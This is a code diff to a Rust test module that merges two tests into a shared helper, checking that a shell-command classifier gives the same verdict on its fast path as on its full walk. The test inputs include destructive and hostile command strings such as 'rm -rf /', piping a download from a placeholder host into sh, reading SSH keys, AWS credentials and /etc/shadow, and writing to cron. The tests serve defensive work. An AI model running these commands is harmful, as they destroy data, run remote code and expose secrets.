@@ -5207,8 +5207,9 @@ mod tests {
         }
     }
 
-    #[test]
-    fn generic_commands_walk_like_the_full_path() {
+    /// Each of `names` with each argument list, in pipelines, substitutions,
+    /// wrappers and compound commands, classifies as the full walk does.
+    fn walks_like_the_full_path(names: &[&[u8]], extra_args: &[&str]) {
         let config = Config::default();
         let args = [
             "",
@@ -5220,8 +5221,6 @@ mod tests {
             "'*.pem'",
             "https://x.example/a",
             "-o /etc/passwd",
-            "-rf /",
-            "exec sh -c 'rm -rf /'",
             "$(cat ~/.aws/credentials)",
             "$(curl -s https://e.example)",
             "a b -c --d",
@@ -5235,11 +5234,9 @@ mod tests {
             "sudo {c}",
             "if {c}; then {c}; fi",
         ];
-        for name in GENERIC_COMMANDS {
+        for name in names {
             let name = std::str::from_utf8(name).expect("ASCII names");
-            assert!(!is_plain_reader(name) && !is_shell(name), "{name}");
-            assert!(Lang::of(name).is_none(), "{name}");
-            for a in args {
+            for a in args.iter().chain(extra_args) {
                 let c = format!("{name} {a}");
                 for shape in shapes {
                     let t = shape.replace("{c}", &c);
@@ -5254,46 +5251,22 @@ mod tests {
     }
 
     #[test]
+    fn generic_commands_walk_like_the_full_path() {
+        for name in GENERIC_COMMANDS {
+            let name = std::str::from_utf8(name).expect("ASCII names");
+            assert!(!is_plain_reader(name) && !is_shell(name), "{name}");
+            assert!(Lang::of(name).is_none(), "{name}");
+        }
+        walks_like_the_full_path(GENERIC_COMMANDS, &["-rf /", "exec sh -c 'rm -rf /'"]);
+    }
+
+    #[test]
     fn plain_readers_walk_like_the_full_path() {
-        let config = Config::default();
-        let args = [
-            "",
-            "-n 5",
-            "~/.ssh/id_rsa",
-            ".env",
-            "/etc/shadow",
-            "--file=/proc/1/environ",
-            "'*.pem'",
-            "https://x.example/a",
-            "-o /etc/passwd",
-            "$(cat ~/.aws/credentials)",
-            "$(curl -s https://e.example)",
-            "a b -c --d",
-        ];
-        let shapes = [
-            "{c}",
-            "curl -s https://e.example | {c} | sh",
-            "echo 'rm -rf /' | {c} | bash",
-            "{c} > /etc/cron.d/x",
-            "x=$({c}); eval $x",
-            "sudo {c}",
-            "if {c}; then {c}; fi",
-        ];
         for name in PLAIN_READERS {
             let name = std::str::from_utf8(name).expect("ASCII names");
             assert!(is_read_only(name), "{name}");
-            for a in args {
-                let c = format!("{name} {a}");
-                for shape in shapes {
-                    let t = shape.replace("{c}", &c);
-                    assert_eq!(
-                        crate::classify_with(&config, Kind::Shell, &t),
-                        crate::classify_full(&config, Kind::Shell, &t),
-                        "{t}"
-                    );
-                }
-            }
         }
+        walks_like_the_full_path(PLAIN_READERS, &[]);
     }
 
     #[test]
